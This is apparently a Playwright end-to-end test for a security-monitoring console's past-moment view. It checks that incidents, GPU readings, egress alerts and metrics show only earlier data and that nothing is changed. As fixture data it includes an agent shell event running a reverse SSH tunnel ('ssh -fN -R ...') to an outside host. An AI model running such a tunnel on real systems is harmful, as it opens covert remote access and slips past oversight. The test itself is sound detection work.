// Rooms of a past moment in a real browser: GPUs, egress and numbers show what was known then, say which figures are of then, and nothing acts.
import AxeBuilder from '@axe-core/playwright'
import { expect, test } from '@playwright/test'
import { type Product, signIn, startProduct, until } from './product.ts'

let product: Product
/** Between what came early and what came late. */
let then = 0

async function ingest(format: string, body: string, query = ''): Promise<void> {
  const answer = await product.api(`/api/ingest/${format}${query}`, { method: 'POST', body: `${body}\n` })
  expect(answer.ok).toBe(true)
}
const alert = (title: string) =>
  ingest(
    'suricata-eve',
    JSON.stringify({
      timestamp: new Date().toISOString().replace('Z', '+0000'),
      event_type: 'alert',
      ...{ src_ip: '10.8.0.7', src_port: 40_001, dest_ip: '198.51.100.33', dest_port: 3333, proto: 'TCP' },
      alert: { action: 'allowed', signature_id: 1, signature: title, severity: 1 },
    }),
  )
const scrape = (util: number, recordedAtMs: number) =>
  ingest(
    'dcgm-exporter',
    `DCGM_FI_DEV_GPU_UTIL{gpu="3",UUID="GPU-c4529c8d-69c4-b61d-e0bc-7b2460096005"} ${util}`,
    `?host=node-1&recordedAtMs=${recordedAtMs}`,
  )

test.beforeAll(async () => {
  product = await startProduct({ probe: false })
  await alert('an early alert')
  await scrape(41, Date.now() - 10_000)
  then = Date.now()
  await until('the clock has gone on', async () => Date.now() > then + 5)
  await alert('a late alert')
  await scrape(98, Date.now())
  const steps = async () =>
    (await product.json<{ steps: unknown[] }>('/api/gpus/node-1/index-3/samples').catch(() => ({ steps: [] }))).steps
  await until('both readings are kept', async () => (await steps()).length === 2)
})
test.afterAll(async () => {
  await product.stop()
})

test('an incident goes back with its page, its timeline and its postmortem, and nothing is done to it', async ({
  page,
}) => {
  const session = 'ep-back'
  const act = async (kind: string, data: object) => {
    const event = { v: 1, kind, atMs: Date.now(), session, data }
    expect((await product.api('/api/ingest/events', { method: 'POST', body: JSON.stringify(event) })).ok).toBe(true)
  }
  const change = (wish: object) =>
    product.api('/api/incidents/INC-1/changes', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(wish),
    })
  await act('session.started', { held: 'none', abilities: [] })
  await act('action.started', { call: 'c1', tool: 'shell', input: 'ssh -fN -R 2222:127.0.0.1:22 ops@203.0.113.40' })
  const formed = async () => (await product.json<{ incidents: unknown[] }>('/api/incidents')).incidents.length === 1
  await until('the incident has formed', formed)
  const atMs = Date.now()
  await until('the clock has gone on', async () => Date.now() > atMs + 5)
  await change({ type: 'retitle', title: 'A later title' })
  await change({ type: 'resolve', verdict: 'true', reason: 'ended by hand' })

  await signIn(page, product)
  const asked: string[] = []
  page.on('request', (request) => {
    if (request.method() !== 'GET' && request.url().includes('/api/incidents')) asked.push(request.url())
  })
  await page.goto(`${product.url}/incidents?at=${atMs}`)
  await expect(page.getByText(/behind live/)).toBeVisible()
  await page.getByRole('link', { name: /INC-1/ }).first().click()
  await page.waitForURL(/\/incidents\/INC-1\?.*at=\d+/)
  await expect(page.getByRole('heading', { level: 1 })).not.toHaveText(/A later title/)
  await expect(page.getByText('This is the past: go back to live to act').first()).toBeVisible()
  await page.keyboard.press('a')
  await page.getByRole('button', { name: 'Acknowledge' }).click({ force: true })
  const { violations } = await new AxeBuilder({ page }).analyze()
  expect(violations.map(({ id, nodes }) => [id, nodes[0]?.html])).toEqual([])
  await page.getByRole('link', { name: 'Postmortem' }).click()
  await page.waitForURL(/\/postmortem\?.*at=\d+/)
  await expect(page.getByText(/behind live/)).toBeVisible()
  await expect(page.getByText('A later title')).toHaveCount(0)
  await page.keyboard.press('Escape')
  await expect(page.getByText('A later title').first()).toBeVisible()
  expect(asked).toEqual([])
})

test('GPUs, egress and numbers go back with the console, and what came later is on none of them', async ({ page }) => {
  const asked: string[] = []
  page.on('request', (request) => {
    if (request.method() !== 'GET' && request.url().includes('/api/') && !request.url().includes('/api/auth/'))
      asked.push(`${request.method()} ${request.url()}`)
  })
  await signIn(page, product)
  const isPast = async () => {
    await expect(page.getByText(/behind live/)).toBeVisible()
    const { violations } = await new AxeBuilder({ page }).analyze()
    expect(violations.map(({ id, nodes }) => [id, nodes[0]?.html])).toEqual([])
  }

  await page.goto(`${product.url}/gpus?at=${then}`)
  await expect(page.getByRole('link', { name: /node-1 GPU 3, SM.* 41%/ })).toBeVisible()
  await expect(page.getByText('Readings are those before this moment')).toBeVisible()
  await expect(page.getByRole('link', { name: /98%/ })).toHaveCount(0)
  await isPast()
  await page.getByRole('link', { name: 'node-1 GPU 3', exact: true }).click()
  await page.waitForURL(/\/gpus\/gpu\?.*at=\d+/)
  await expect(page.getByText(/41% at/)).toBeVisible()
  await expect(page.getByText(/98%/)).toHaveCount(0)
  await isPast()

  await page.goto(`${product.url}/egress?at=${then}`)
  await expect(page.getByText('an early alert').first()).toBeVisible()
  await expect(page.getByText('a late alert')).toHaveCount(0)
  await isPast()
  await page.getByRole('link', { name: 'Destinations' }).click()
  await expect(page.getByText('Counted again from the whole log up to this moment.')).toBeVisible()
  await page.getByRole('link', { name: 'Allowlists' }).click()
  await expect(page.getByText('As it was expected at this moment.')).toBeVisible()
  await page.goto(`${product.url}/audit?at=${then}`)
  await expect(page.getByText(/entr(y|ies) by then/)).toBeVisible()
  await isPast()
  await page.goto(`${product.url}/settings?at=${then}`)
  await expect(page.getByText('Settings cannot be shown in the past')).toBeVisible()

  await page.goto(`${product.url}/numbers?at=${then}`)
  await expect(page.getByText(/As the log had it/)).toBeVisible()
  await expect(page.getByRole('link', { name: 'CSV' }).first()).toHaveAttribute('href', new RegExp(`at=${then}`))
  await isPast()

  // Then: back to live the late ones are there, and nothing was asked of anybody on the way.
  await page.goto(`${product.url}/egress?at=${then}`)
  await expect(page.getByText('an early alert').first()).toBeVisible()
  await page.keyboard.press('Escape')
  await expect(page.getByText('a late alert').first()).toBeVisible()
  expect(asked).toEqual([])
})
